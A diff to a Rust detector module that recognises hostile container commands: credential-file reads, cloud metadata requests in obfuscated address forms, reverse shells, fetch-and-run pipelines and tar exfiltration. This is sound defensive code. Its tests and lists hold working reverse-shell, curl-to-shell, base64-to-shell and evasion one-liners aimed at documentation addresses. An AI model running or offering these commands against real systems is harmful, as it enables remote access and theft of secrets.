@@ -4,14 +4,26 @@
 //! Patterns are of what a command does, not of a tool's name where many tools do the same. They are meant
 //! for command lines that somebody sent on purpose, so they may be broad.
 
+use std::net::Ipv4Addr;
+
 use airside_types::redact;
 
-/// The longest part of a command line that is looked at and kept, in bytes.
-const MAX_BYTES: usize = 4096;
+mod readings;
 
-/// A command line in lower case, ready to be asked.
+/// The longest part of a command line that is looked at, in bytes: Linux runs no longer one.
+const MAX_BYTES: usize = 2 << 20;
+
+/// A command line, ready to be asked.
 #[derive(Debug)]
 pub(crate) struct Command {
+    /// As it is written, as a shell reads it, and what is decoded in it.
+    readings: Vec<Reading>,
+}
+
+/// One way to read a command line.
+#[derive(Debug)]
+struct Reading {
+    line: String,
     lower: String,
 }
 
@@ -35,14 +47,29 @@ const CREDENTIALS: [&str; 16] = [
     "/var/lib/kubelet/kubeconfig",
 ];
 
+/// Files of credentials, for words that name them by wildcards.
+const CREDENTIAL_FILES: [&str; 10] = [
+    "/etc/kubernetes/admin.conf",
+    "/etc/shadow",
+    "/proc/1/environ",
+    "/proc/self/environ",
+    "/root/.aws/credentials",
+    "/root/.docker/config.json",
+    "/root/.kube/config",
+    "/root/.ssh/id_rsa",
+    "/run/secrets/kubernetes.io/serviceaccount/token",
+    "/var/run/secrets/kubernetes.io/serviceaccount/token",
+];
+
 /// The metadata services of AWS, Azure, Oracle and Google clouds, and of Alibaba's.
-const METADATA: [&str; 6] = [
-    "169.254.169.254",
-    "169.254.170.2",
-    "fd00:ec2::254",
-    "metadata.google",
-    "metadata.goog",
-    "100.100.100.200",
+const METADATA: [&str; 5] =
+    ["fd00:ec2::254", "metadata.google", "metadata.goog", "::ffff:a9fe:a9fe", "::ffff:a9fe:aa02"];
+
+/// Their addresses, which may be written in several ways.
+const METADATA_ADDRESSES: [Ipv4Addr; 3] = [
+    Ipv4Addr::new(169, 254, 169, 254),
+    Ipv4Addr::new(169, 254, 170, 2),
+    Ipv4Addr::new(100, 100, 100, 200),
 ];
 
 const REVERSE_SHELL: [&str; 12] = [
@@ -80,68 +107,198 @@ impl Command {
     pub(crate) fn new(line: &str) -> Self {
         let cut = line.char_indices().map(|(at, _)| at).find(|at| *at >= MAX_BYTES);
         let kept = cut.and_then(|at| line.get(..at)).unwrap_or(line);
-        Self { lower: kept.to_ascii_lowercase() }
+        let reading = |line: String| Reading { lower: line.to_ascii_lowercase(), line };
+        Self { readings: readings::readings(kept).into_iter().map(reading).collect() }
     }
 
-    fn has_any(&self, patterns: &[&str]) -> bool {
-        patterns.iter().any(|pattern| self.lower.contains(pattern))
+    fn any(&self, question: impl Fn(&Reading) -> bool) -> bool {
+        self.readings.iter().any(question)
     }
 
     /// Reads a token, key or environment.
     pub(crate) fn reads_credentials(&self) -> bool {
-        self.has_any(&CREDENTIALS)
+        self.any(|it| {
+            let of_process = it.lower.contains("/proc/") && it.lower.contains("/environ");
+            it.has_any(&CREDENTIALS) || of_process || it.words().any(is_pattern_of_credentials)
+        })
     }
 
     /// Asks a cloud's metadata service.
     pub(crate) fn reaches_metadata(&self) -> bool {
-        self.has_any(&METADATA)
+        let names_it = |address| METADATA_ADDRESSES.contains(&address);
+        self.any(|it| it.has_any(&METADATA) || it.addresses().any(names_it))
     }
 
     /// Hands a shell to a network connection.
     pub(crate) fn is_reverse_shell(&self) -> bool {
-        let pipe_shell =
-            self.lower.contains("mkfifo") && self.has_any(&["nc ", "ncat ", "telnet "]);
-        let python = self.lower.contains("socket.socket") && self.lower.contains("subprocess");
-        self.has_any(&REVERSE_SHELL) || pipe_shell || python
+        self.any(Reading::is_reverse_shell)
     }
 
     /// Mines, by the protocol or the programs of miners.
     pub(crate) fn is_miner(&self) -> bool {
-        self.has_any(&MINER)
+        self.any(|it| it.has_any(&MINER))
     }
 
     /// Brings something in from the network.
     pub(crate) fn downloads(&self) -> bool {
-        let has_url = self.has_any(&["http://", "https://", "ftp://"]);
-        has_url && self.words().any(|word| matches!(word, "curl" | "wget" | "aria2c"))
+        self.any(Reading::downloads)
     }
 
     /// Runs what it fetches, or what it decodes.
     pub(crate) fn runs_what_it_fetches(&self) -> bool {
+        self.any(Reading::runs_what_it_fetches)
+    }
+
+    /// Writes an archive to standard output: how `kubectl cp` takes files out.
+    pub(crate) fn archives_to_stdout(&self) -> bool {
+        self.any(Reading::archives_to_stdout)
+    }
+}
+
+impl Reading {
+    fn has_any(&self, patterns: &[&str]) -> bool {
+        patterns.iter().any(|pattern| self.lower.contains(pattern))
+    }
+
+    fn is_reverse_shell(&self) -> bool {
+        let pipe_shell =
+            self.lower.contains("mkfifo") && self.has_any(&["nc ", "ncat ", "telnet "]);
+        let python = self.lower.contains("socket.socket") && self.lower.contains("subprocess");
+        self.has_any(&REVERSE_SHELL) || pipe_shell || python || self.connects_a_shell()
+    }
+
+    /// `nc` and its kin with a shell to run, whichever options stand between.
+    fn connects_a_shell(&self) -> bool {
+        const NETCATS: [&str; 4] = ["nc", "ncat", "netcat", "nc.traditional"];
+        let words: Vec<&str> = self.words().collect();
+        let from = words.iter().position(|word| NETCATS.contains(&program(word)));
+        let rest = from.and_then(|from| words.get(from + 1..)).unwrap_or_default();
+        let runs = |option: &str| {
+            let is_short = option.starts_with('-') && !option.starts_with("--");
+            matches!(option, "--exec" | "--sh-exec") || is_short && option.ends_with(['e', 'c'])
+        };
+        let mut pairs = rest.windows(2).filter_map(|pair| Some((pair.first()?, pair.last()?)));
+        pairs.any(|(option, word)| runs(option) && SHELLS.contains(&program(word)))
+    }
+
+    /// A program that fetches, with an address; those take it without a scheme as well.
+    fn downloads(&self) -> bool {
+        let has_url = self.has_any(&["http://", "https://", "ftp://"]);
+        let mut words = self.words();
+        words.any(|word| matches!(program(word), "curl" | "wget" | "aria2c"))
+            && (has_url || words.any(is_host))
+    }
+
+    fn runs_what_it_fetches(&self) -> bool {
         let fetches = self.downloads() || self.has_any(&["base64 -d", "base64 --decode"]);
         let to_shell = self.lower.split('|').skip(1).any(|stage| {
-            let program = stage.split_whitespace().find(|word| *word != "sudo").unwrap_or_default();
-            let name = program.rsplit('/').next().unwrap_or(program);
-            SHELLS.contains(&name.trim_end_matches(['"', '\'', ';', ')']))
+            let word = stage.split_whitespace().find(|word| *word != "sudo").unwrap_or_default();
+            SHELLS.contains(&program(word).trim_end_matches(['"', '\'', ';', ')']))
         });
         let made_executable = self.downloads() && self.lower.contains("chmod +x");
         fetches && to_shell || made_executable
     }
 
-    /// Writes an archive to standard output: how `kubectl cp` takes files out.
-    pub(crate) fn archives_to_stdout(&self) -> bool {
-        ["tar cf -", "tar -cf -", "tar czf -", "tar -czf -", "tar c "]
-            .iter()
-            .any(|pattern| self.lower.starts_with(pattern))
+    /// `tar` that creates, to no file or to `-`. Its `-C` is another option than `-c`.
+    fn archives_to_stdout(&self) -> bool {
+        let words: Vec<&str> = split(&self.line).collect();
+        words.iter().enumerate().filter(|(_, word)| program(word) == "tar").any(|(at, _)| {
+            let rest = words.get(at + 1..).unwrap_or_default();
+            let mut options = rest.iter().enumerate().filter(|(index, word)| {
+                *index == 0 && !word.contains('/') || word.starts_with('-')
+            });
+            let has = |word: &str, letter| !word.starts_with("--") && word.contains(letter);
+            let creates = options.clone().any(|(_, word)| has(word, 'c') || *word == "--create");
+            let names_file =
+                options.clone().any(|(_, word)| has(word, 'f') || word.starts_with("--file"));
+            let is_dash = |word: &str| word == "-" || word == "--file=-";
+            creates && (!names_file || options.any(|(_, word)| is_dash(word)))
+        })
     }
 
     fn words(&self) -> impl Iterator<Item = &str> {
-        self.lower
-            .split(|c: char| {
-                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`' | '"' | '\'')
-            })
-            .map(|word| word.rsplit('/').next().unwrap_or(word))
+        split(&self.lower)
     }
+
+    /// The addresses that numbers in it stand for.
+    fn addresses(&self) -> impl Iterator<Item = Ipv4Addr> {
+        let is_part = |letter: char| letter.is_ascii_hexdigit() || matches!(letter, '.' | 'x');
+        let numbers = self.lower.split(move |letter| !is_part(letter));
+        numbers.filter_map(|text| address(text.trim_matches('.')))
+    }
+}
+
+fn split(line: &str) -> impl Iterator<Item = &str> {
+    let is_between = |letter: char| {
+        letter.is_whitespace() || matches!(letter, ';' | '|' | '&' | '(' | ')' | '`' | '"' | '\'')
+    };
+    line.split(is_between).filter(|word| !word.is_empty())
+}
+
+/// A program without its folder.
+fn program(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+/// Whether a word is a host, or an address, with or without a path: no option, and no path of a file.
+fn is_host(word: &str) -> bool {
+    let host = word.split('/').next().unwrap_or_default();
+    !host.starts_with(['-', '.']) && host.contains(['.', ':'])
+}
+
+/// The address that a text is to `inet_aton`: one to four numbers, decimal, octal or hexadecimal, the last of which
+/// fills what is left.
+fn address(text: &str) -> Option<Ipv4Addr> {
+    let number = |part: &str| match (part.strip_prefix("0x"), part.strip_prefix('0')) {
+        (Some(digits), _) => u32::from_str_radix(digits, 16).ok(),
+        (None, Some(digits)) if !digits.is_empty() => u32::from_str_radix(digits, 8).ok(),
+        _ => part.parse().ok(),
+    };
+    let parts: Vec<u32> = text.split('.').map(number).collect::<Option<_>>()?;
+    let (last, bytes) = parts.split_last()?;
+    let shift = 8 * u32::try_from(bytes.len()).ok().filter(|count| *count < 4)?;
+    let is_small = u64::from(*last) < 1 << (32 - shift);
+    let high = bytes
+        .iter()
+        .try_fold(0, |high, byte| (*byte < 256).then_some(high << 8 | u64::from(*byte)))?;
+    let all = high << (32 - shift) | u64::from(*last);
+    is_small.then(|| u32::try_from(all).ok().map(Ipv4Addr::from)).flatten()
+}
+
+/// Whether a word with wildcards means a file of credentials: one whose name it tells by more than wildcards.
+fn is_pattern_of_credentials(word: &str) -> bool {
+    if !word.contains(['?', '*']) {
+        return false;
+    }
+    let told = program(word).chars().filter(|letter| letter.is_alphanumeric()).count();
+    told >= 2
+        && CREDENTIAL_FILES.iter().any(|file| {
+            let (names, parts) = (file.split('/'), word.split('/'));
+            file.split('/').count() == word.split('/').count()
+                && names.zip(parts).all(|(name, part)| matches(part.as_bytes(), name.as_bytes()))
+        })
+}
+
+/// Whether a name is one that a pattern with `?` and `*` means. Which ends of the name a pattern's beginning can
+/// leave over is kept as a set, so that many stars cost no more than few.
+fn matches(pattern: &[u8], name: &[u8]) -> bool {
+    let mut starts: Vec<bool> = (0..=name.len()).map(|at| at == 0).collect();
+    for own in pattern {
+        starts = if *own == b'*' {
+            starts
+                .iter()
+                .scan(false, |seen, start| {
+                    *seen |= start;
+                    Some(*seen)
+                })
+                .collect()
+        } else {
+            let fits = |other: &u8| *own == b'?' || own == other;
+            let moved = starts.iter().zip(name).map(|(start, other)| *start && fits(other));
+            std::iter::once(false).chain(moved).collect()
+        };
+    }
+    starts.last().copied().unwrap_or(false)
 }
 
 /// A command line as people may see it: credentials hidden, cut to `limit` characters.
@@ -164,24 +321,54 @@ mod tests {
         let table: &[(Question, &[&str], &[&str])] = &[
             (
                 Command::reads_credentials,
-                &["cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat /proc/1/environ"],
-                &["cat /etc/hostname", "env"],
+                &[
+                    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                    "cat /proc/1/environ",
+                    "strings /proc/42/environ",
+                    "cat /e?c/sh*ow",
+                    "cat /var/run/secrets/*/serviceaccount/tok?n",
+                    "c'a't /etc/sha\\dow",
+                    "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
+                ],
+                &[
+                    "cat /etc/hostname",
+                    "env",
+                    "ls /etc/*",
+                    "ls /etc/h*",
+                    "cat /opt/sh?dow",
+                    "ls /proc/1",
+                ],
             ),
             (
                 Command::reaches_metadata,
                 &[
                     "curl -s http://169.254.169.254/latest/meta-data/",
                     "curl metadata.google.internal",
+                    "curl http://2852039166/latest",
+                    "curl 0xa9fea9fe",
+                    "curl http://0251.0376.0251.0376/",
+                    "curl http://169.254.43518/",
+                    "curl http://0xa9.0xfe.0xa9.0xfe:80/",
+                    "curl http://[::ffff:a9fe:a9fe]/",
+                    "curl 100.100.100.200.",
                 ],
-                &["curl http://10.0.0.1/"],
+                &[
+                    "curl http://10.0.0.1/",
+                    "sleep 2852039167",
+                    "curl 169.254.169.253",
+                    "ls 1.2.3.4.5 256.1.1.1",
+                ],
             ),
             (
                 Command::is_reverse_shell,
                 &[
                     "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                     "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f",
+                    "ncat --ssl 198.51.100.7 4444 -e /bin/bash",
+                    "sh -c '/usr/bin/nc 198.51.100.7 4444 -nve sh;'",
+                    "netcat --exec bash 198.51.100.7 4444",
                 ],
-                &["nc -z db 5432", "bash -i"],
+                &["nc -z db 5432", "bash -i", "bash -c nc -vz db 1", "sh -e bash"],
             ),
             (
                 Command::is_miner,
@@ -193,8 +380,16 @@ mod tests {
                 &[
                     "wget -q http://198.51.100.23/x -O /tmp/.x",
                     "sh -c 'curl -fsSL https://x.example'",
+                    "/usr/bin/wget -q 198.51.100.23/x",
+                    "curl x.example:8080",
+                    "w''get x.example/a",
                 ],
-                &["echo https://x.example", "curl --version"],
+                &[
+                    "echo https://x.example",
+                    "curl --version",
+                    "wget -O /tmp/x",
+                    "echo x.example; curl -V",
+                ],
             ),
             (
                 Command::runs_what_it_fetches,
@@ -202,10 +397,27 @@ mod tests {
                     "sh -c curl -fsSL http://198.51.100.23/w.sh | sh",
                     "echo aGk= | base64 -d | /bin/bash",
                     "wget http://x.example/a -O a && chmod +x a && ./a",
+                    "cu''rl x.example/a | b\\ash",
                 ],
                 &["curl https://x.example | jq .", "cat a.sh | sh"],
             ),
-            (Command::archives_to_stdout, &["tar cf - /data"], &["tar xf -", "start cf -"]),
+            (
+                Command::archives_to_stdout,
+                &[
+                    "tar cf - /data",
+                    "sh -c tar -czf - /data",
+                    "/bin/tar -C /data -c .",
+                    "tar --create --file=- /data",
+                    "tar c /data | nc x 1",
+                ],
+                &[
+                    "tar xf -",
+                    "start cf -",
+                    "tar -C /tmp -xf -",
+                    "tar cf /tmp/a.tar /data",
+                    "ls tar",
+                ],
+            ),
         ];
         for (question, yes, no) in table {
             for line in *yes {
